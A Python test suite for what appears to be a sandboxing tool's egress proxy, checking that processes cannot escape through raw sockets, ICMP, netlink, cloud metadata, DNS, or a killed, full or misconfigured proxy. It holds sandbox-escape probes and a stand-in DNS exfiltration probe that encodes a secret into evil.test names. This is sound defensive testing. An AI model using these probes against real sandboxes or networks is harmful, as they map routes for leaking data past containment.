# SPDX-License-Identifier: Apache-2.0
"""Section E of the threats, what the other files do not try: no network at all, other sandboxes, listeners, DNS as a channel, and a proxy that is
killed, full or misconfigured. README.md says where each row is."""
import contextlib
import json
import os
import subprocess

import wardenv_testing as t
from base import TALK, EgressTest, both
from lab import DNS, METADATA, OWN, PUBLIC, PYTHON, wait_for

# Each way out that a process has, tried; one line for each. Arguments: addresses of the lab that answer outside.
WAYS = r"""
import errno, socket, struct, sys
public, own, metadata, dns, six = sys.argv[1:]
QUERY = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x07allowed\x04test\x00" + struct.pack(">HH", 1, 1)
def tcp(address, port=80, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        assert s.recv(10)
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(QUERY, (dns, 53))
        assert s.recv(100)
def opened(*kind):
    socket.socket(*kind).close()
def ping():
    header = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    total = sum(struct.unpack(">4H", header))
    header = header[:2] + struct.pack(">H", 0xffff - (total & 0xffff) - (total >> 16)) + header[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1) as s:
        s.settimeout(5)
        s.sendto(header, (public, 0))
        assert s.recv(100)
def abstract():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0wardenv-lab-abstract")
def links():
    with socket.socket(16, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.sendall(struct.pack("=IHHII", 17 + 15, 18, 0x301, 1, 0) + bytes(16))
        assert b"eth0" in s.recv(65536), OSError(errno.ENODEV, "no device but loopback")
ways = {"tcp": lambda: tcp(public), "tcp-ipv6": lambda: tcp(six, 80, socket.AF_INET6), "metadata": lambda: tcp(metadata), "host": lambda: tcp(own),
        "host-loopback": lambda: tcp("127.0.0.1"), "dns": udp, "icmp": ping, "raw": lambda: opened(2, 3, 255), "packet": lambda: opened(17, 3, 0x300),
        "vsock": lambda: opened(40, 1), "netlink": links, "unix": abstract}
print("BEGAN", flush=True)
for name, way in ways.items():
    try:
        way()
        print(name, "REACHED", flush=True)
    except (OSError, AssertionError) as error:
        print(name, "DENIED", error, flush=True)
"""
SIX = "2600:db9::10"
ADDRESSES = (PUBLIC, OWN, METADATA, DNS, SIX)

# Listens, says so, and answers one byte to whoever comes; ends when `go` is there.
LISTEN = """
import os, socket, sys, threading, time
def serve(s):
    while True:
        s.accept()[0].sendall(b"!")
for address in sys.argv[2:]:
    s = socket.create_server((address, int(sys.argv[1])), family=socket.AF_INET6 if ":" in address else socket.AF_INET)
    threading.Thread(target=serve, args=(s,), daemon=True).start()
probe = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
open("up", "wb").write(probe.recv(1))
deadline = time.monotonic() + 60
while not os.path.exists("go") and time.monotonic() < deadline:
    time.sleep(0.05)
"""

CONNECT = """
import socket, sys
print("BEGAN", flush=True)
for address in sys.argv[2:]:
    try:
        print("GOT", address, socket.create_connection((address, int(sys.argv[1])), 5).recv(1))
    except OSError as error:
        print("DENIED", address, error)
"""


class NoneTest(EgressTest):
    @both
    def test_there_is_no_way_out_but_the_proxy(self, who):
        """As `--network none`, where the proxy is not there either."""
        listen = "import socket, sys\ns = socket.socket(socket.AF_UNIX); s.bind('\\0wardenv-lab-abstract'); s.listen(); print('UP', flush=True); sys.stdin.read()"
        with subprocess.Popen(self.lab.on_host([PYTHON, "-c", listen]), stdin=subprocess.PIPE, stdout=subprocess.PIPE) as control:
            control.stdout.readline()
            self.none_of_the_ways(who)
            control.stdin.close()

    def none_of_the_ways(self, who):
        outside = self.outside(self.python(WAYS, *ADDRESSES)).stdout.decode()
        for way in ("tcp", "tcp-ipv6", "metadata", "host", "host-loopback", "dns", "icmp", "raw", "packet", "netlink", "unix"):
            self.assertIn(f"{way} REACHED", outside, "positive control")
        for options in (["--network", "none"], ["--network", "egress", "--allow-host", "allowed.test"]):
            scratch = self.scratch(who)
            argv = [t.WARDENV, "run", *scratch.options("--json", *options), "--", *self.python(WAYS, *ADDRESSES)]
            run = t.to_run(t.execute(self.lab.on_host(argv, scratch.user), env=t.environment(scratch.user, scratch.state), cwd=scratch.root))
            self.assertIn("BEGAN", run.text, run)
            self.assertEqual(run.text.count(" DENIED "), 12, run.text)
            self.assertNotIn("REACHED", run.text)

    @both
    def test_without_egress_nothing_is_on_the_proxys_port(self, who):
        scratch = self.scratch(who)
        argv = [t.WARDENV, "run", *scratch.options("--json", "--network", "none"), "--", *self.python(CONNECT, 3128, "127.0.0.1")]
        run = t.to_run(t.execute(self.lab.on_host(argv, scratch.user), env=t.environment(scratch.user, scratch.state), cwd=scratch.root))
        self.assertIn("DENIED", run.text, run)
        self.assertIn("GOT", self.inside(["allowed.test"], self.python(TALK, "x\\r\\n\\r\\n"), who).text)   # control: with it, somebody answers


class OthersTest(EgressTest):
    @contextlib.contextmanager
    def listening(self, who, port):
        """A sandbox that listens on every address it has."""
        scratch = self.scratch(who)
        argv = [t.WARDENV, "run", *scratch.options("--json", "--allow-host", "allowed.test"), "--", *self.python(LISTEN, port, "0.0.0.0", "::1")]
        with subprocess.Popen(self.lab.on_host(argv, scratch.user), env=t.environment(scratch.user, scratch.state), cwd=scratch.root,
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL):
            self.assertTrue(wait_for(lambda: os.path.exists(scratch.path("up")) and os.path.getsize(scratch.path("up")) == 1), "the listener inside answers itself")
            yield
            scratch.write("go")

    @both
    def test_a_listener_inside_is_reached_from_nowhere_else(self, who):
        with self.listening(who, 9555):
            for place in (self.lab.inside, self.lab.outside):
                done = t.execute(self.lab.within(place, *self.python(CONNECT, 9555, "127.0.0.1", OWN, "::1")), cwd="/")
                self.assertIn(b"BEGAN", done.stdout)
                self.assertNotIn(b"GOT", done.stdout)
            run = self.inside(["127.0.0.1:9555", "allowed.test"], self.python(CONNECT, 9555, "127.0.0.1", "::1", OWN), who)   # another sandbox
            self.assertEqual(run.text.count("DENIED"), 3, run)
            run = self.inside(["127.0.0.1:9555"], self.python(TALK, "CONNECT 127.0.0.1:9555 HTTP/1.1\\r\\n\\r\\n"), who)   # by that one's proxy
            self.assertIn("GOT HTTP/1.1 502", run.text)
        command = self.lab.on_host(self.python(LISTEN, 9555, "0.0.0.0"))
        scratch = self.scratch()
        with subprocess.Popen(command, cwd=scratch.root, stdin=subprocess.DEVNULL) as control:
            reached = wait_for(lambda: b"GOT" in t.execute(self.lab.within(self.lab.outside, *self.python(CONNECT, 9555, OWN)), cwd="/").stdout)
            control.kill()
        self.assertTrue(reached, "control: a listener of the host itself is")

    @both
    def test_the_proxy_of_one_sandbox_is_not_anothers(self, who):
        """Each has its own rules, though both are at the same address and port."""
        self.assertIn("SERVED", self.inside(["allowed.test"], ["curl", "-sS", "http://allowed.test/"], who).text)
        self.assertNotIn("SERVED", self.inside(["other.test"], ["curl", "-sS", "http://allowed.test/"], who).text)


class DnsTest(EgressTest):
    @both
    def test_names_carry_nothing_out(self, who):
        """Neither by asking a name server, nor by asking the proxy for a name that no rule allows, in any of its protocols."""
        code = f"name = b'c2VjcmV0.leak-{who}.evil.test'" + """
import socket
def talk(data):
    s = socket.create_connection(("127.0.0.1", 3128), 20)
    s.sendall(data)
    return s.recv(1000)
print(talk(b"CONNECT " + name + b":443 HTTP/1.1\\r\\n\\r\\n")[:12], talk(b"GET http://" + name + b"/ HTTP/1.1\\r\\n\\r\\n")[:12])
print(talk(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(name)]) + name + b"\\x01\\xbb")[:2])
try:
    print(socket.getaddrinfo(name.decode(), 80))
except socket.gaierror:
    print("UNKNOWN")
"""
        run = self.inside(["allowed.test"], self.python(code), who)
        self.assertIn("b'HTTP/1.1 403' b'HTTP/1.1 403'", run.text, run)
        self.assertIn("UNKNOWN", run.text)
        self.assertFalse([e for e in self.lab.seen("dns") if f"leak-{who}" in e["name"]])
        self.outside(self.python(f"import socket\ntry: socket.getaddrinfo('control.leak-{who}.evil.test', 80)\nexcept OSError: pass"))
        self.assertTrue([e for e in self.lab.seen("dns") if f"control.leak-{who}" in e["name"]], "control: outside, the same question arrives")

    @both
    def test_an_allowed_name_is_not_looked_for_below_the_hosts_search_domains(self, who):
        """`search evil.test` in resolv.conf: nowhere.test is nobody, nowhere.test.evil.test would be somebody else."""
        self.lab.search("evil.test")
        self.addCleanup(self.lab.search)
        self.assertIn("GOT", self.outside(self.python(CONNECT, 9000, "nowhere.test")).stdout.decode(), "control: the host itself finds it")
        before = len(self.lab.seen("dns", name="nowhere.test.evil.test"))
        run = self.inside(["nowhere.test"], self.python(TALK, "GET http://nowhere.test/ HTTP/1.1\\r\\n\\r\\n"), who)
        self.assertIn("GOT HTTP/1.1 502 nowhere.test could not be looked up", run.text, run)
        self.assertEqual(len(self.lab.seen("dns", name="nowhere.test.evil.test")), before)


class BrokenProxyTest(EgressTest):
    """A proxy that is killed, full or misconfigured lets nothing through."""

    @both
    def test_killed(self, who):
        """The proxy is a thread of the engine; its end is the end of the run and of every connection."""
        scratch = self.scratch(who)
        code = """
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT allowed.test:9000 HTTP/1.1\\r\\n\\r\\n")
while b"ECHO" not in s.recv(1000): pass
open("open", "w").write("1")
try:
    s.recv(1)
except OSError:
    pass
while True:   # what is left of the run, as long as it is: is there a way out?
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(b"CONNECT allowed.test:9000 HTTP/1.1\\r\\n\\r\\n")
        if b" 200 " in s.recv(1000):
            open("after", "w").write("1")
    except OSError:
        pass
"""
        token = f"wardenv-token-{t.nonce()}"
        argv = [t.WARDENV, "run", *scratch.options("--allow-host", "allowed.test:9000"), "--", *self.python(code), token]
        process = subprocess.Popen(self.lab.on_host(argv, scratch.user), env=t.environment(scratch.user, scratch.state), cwd=scratch.root,
                                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.assertTrue(wait_for(lambda: os.path.exists(scratch.path("open"))), "control: the tunnel was up")
        for pid in t.processes_with(token):
            with open(f"/proc/{pid}/comm") as name:
                if name.read().startswith("wardenv"):
                    t.kill_quietly(pid)
        process.wait()
        self.assertTrue(t.eventually(lambda: not t.processes_with(token)), "nothing of the run is left")
        self.assertFalse(os.path.exists(scratch.path("after")), "nothing got out after the proxy's end")

    @both
    def test_full(self, who):
        """More connections than it serves: those beyond are told so, or wait; none is let through unjudged."""
        code = """
import socket
held = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(3)]
more = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(20)]
answers = []
for s in more:
    s.settimeout(20)
    s.sendall(b"GET http://allowed.test/full HTTP/1.1\\r\\n\\r\\n")
    answers.append(s.recv(12))
print(set(answers))
for s in held + more: s.close()
import time; time.sleep(0.5)
s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(b"GET http://allowed.test/later HTTP/1.1\\r\\n\\r\\n"); print("LATER", s.recv(12))
"""
        run = self.inside(["allowed.test"], self.python(code), who, ["--egress-at-once", "3"])
        self.assertIn("{b'HTTP/1.1 503'}", run.text, run)
        self.assertIn("LATER b'HTTP/1.1 200'", run.text)
        self.assertFalse(self.lab.seen("http", path="/full"))
        self.assertTrue(self.lab.seen("http", path="/later"))

    @both
    def test_out_of_descriptors(self, who):
        """The host gives the engine few: what can't be served is refused, and what can is judged as ever."""
        scratch = self.scratch(who)
        code = """
import socket
made, answers = [], []
for i in range(80):
    s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(3); made.append(s)
    s.sendall(b"CONNECT %s:9000 HTTP/1.1\\r\\n\\r\\n" % (b"allowed.test" if i % 2 else b"evil.test"))
for s in made:
    try: answers.append(s.recv(12)[9:])
    except OSError: answers.append(b"nothing")
print("ALLOWED", sorted(set(answers[1::2])), "EVIL", sorted(set(answers[::2])))
"""
        argv = ["prlimit", "--nofile=100:100", t.WARDENV, "run", *scratch.options("--json", "--allow-host", "allowed.test:9000", "--timeout", "100s"), "--", *self.python(code)]
        run = t.to_run(t.execute(self.lab.on_host(argv, scratch.user), env=t.environment(scratch.user, scratch.state), cwd=scratch.root, timeout=200))
        self.assertRegex(run.text, r"ALLOWED \[b'200'")
        self.assertNotIn("200", run.text.split("EVIL")[1])

    @both
    def test_used_up_for_long_it_answers_nobody(self, who):
        code = """
import socket
said = refused = 0
for i in range(600):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 10)
        s.sendall(b"CONNECT evil.test:9000 HTTP/1.1\\r\\n\\r\\n")
        said += s.recv(12) == b"HTTP/1.1 403"
        s.close()
    except ConnectionRefusedError:
        refused += 1
    except OSError:
        pass
print("SAID", said > 200, "REFUSED", refused > 200)
"""
        run = self.inside(["allowed.test"], self.python(code), who, ["--egress-connections", "5", "--timeout", "100s"])
        self.assertIn("SAID True REFUSED True", run.text, run)
        self.assertTrue([item for item in self.network_violations(run) if "closed its port" in item["hint"]], run)

    @both
    def test_misconfigured(self, who):
        """Nothing runs where what was asked for can't be had."""
        for options in (["--allow-host", "https://allowed.test"], ["--allow-host", ""], ["--allow-preset", "pypi"], ["--allow-preset", "git-remote"],
                        ["--allow-host", "allowed.test", "--ca-file", "/nonexistent.pem"], ["--allow-host", "allowed.test", "--network", "none"],
                        ["--allow-host", "allowed.test", "--egress-at-once", "5000"]):
            with self.subTest(options=options):
                scratch = self.scratch(who)
                run = self.inside([], ["touch", scratch.path("ran")], who, options, scratch)
                self.assertEqual(run.status, 125, run)
                self.assertFalse(os.path.exists(scratch.path("ran")))
        scratch = self.scratch(who)
        self.assertEqual(self.inside(["allowed.test"], ["touch", scratch.path("ran")], who, [], scratch).status, 0)
        self.assertTrue(os.path.exists(scratch.path("ran")), "control: what is right runs")


class DoctorTest(EgressTest):
    @both
    def test_doctor_shows_the_path_working(self, who):
        user = t.shared_user() if who == "user" else None
        done = t.execute([t.WARDENV, "doctor", "--json"], user, cwd="/")
        found = [check for check in json.loads(done.stdout)["checks"] if check["name"] == "named egress"]
        self.assertEqual(len(found), 1, done.stdout)
        self.assertEqual((found[0]["status"], found[0]["detail"]), ("ok", "an allowed port was reached through the proxy, another refused"))

    def test_doctor_says_so_where_it_has_not_tried(self):
        hidden = ["unshare", "--mount", "--propagation", "private", "/bin/dash", "-c", "mount --bind /dev/null /bin/bash && exec \"$@\"", "sh", t.WARDENV, "doctor", "--json"]
        done = t.execute(hidden, cwd="/")
        found = [check for check in json.loads(done.stdout)["checks"] if check["name"] == "named egress"]
        self.assertEqual((found[0]["status"], found[0]["detail"]), ("not tried", "the check needs /bin/bash"))
